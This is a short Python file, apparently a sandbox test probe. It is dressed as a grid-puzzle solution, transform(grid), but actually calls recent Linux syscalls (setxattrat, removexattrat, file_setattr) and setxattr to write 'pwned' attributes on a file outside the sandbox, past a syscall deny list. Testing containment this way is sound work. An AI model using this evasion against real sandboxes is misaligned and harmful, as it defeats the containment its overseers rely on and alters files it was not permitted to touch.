# Change a world-writable file outside the sandbox through system calls newer than a deny list
# (setxattrat and removexattrat, Linux 6.13; file_setattr, 6.17) and the classic setxattr.
import ctypes
import os

TARGET = b"__VICTIM_DIR__/world.txt"
AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *args):
    """syscall(2) with every integer passed as a full 64-bit long (ctypes would pass an int)."""
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))


class XattrArgs(ctypes.Structure):
    _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]


class FsxAttr(ctypes.Structure):
    _fields_ = [("xflags", ctypes.c_uint32), ("extsize", ctypes.c_uint32), ("nextents", ctypes.c_uint32),
                ("projid", ctypes.c_uint32), ("cowextsize", ctypes.c_uint32), ("pad", ctypes.c_ubyte * 8)]


def transform(grid):
    changed = []
    value = ctypes.create_string_buffer(b"pwned")
    args = XattrArgs(ctypes.addressof(value), 5, 0)
    for name in (b"user.fp16rl_a", b"user.fp16rl_b"):
        if syscall(463, AT_FDCWD, TARGET, 0, name, ctypes.byref(args), ctypes.sizeof(args)) == 0:
            changed.append("setxattrat")
    if syscall(466, AT_FDCWD, TARGET, 0, b"user.fp16rl_b") == 0:
        changed.append("removexattrat")
    attr = FsxAttr()
    attr.xflags = 0x00000010  # FS_XFLAG_NODUMP
    if syscall(469, AT_FDCWD, TARGET, ctypes.byref(attr), ctypes.sizeof(attr), 0) == 0:
        changed.append("file_setattr")
    try:
        os.setxattr(TARGET, "user.fp16rl_c", b"pwned")
        changed.append("setxattr")
    except OSError:
        pass
    if changed:
        return [[len(changed)]]
    raise PermissionError("no extended attribute could be set")
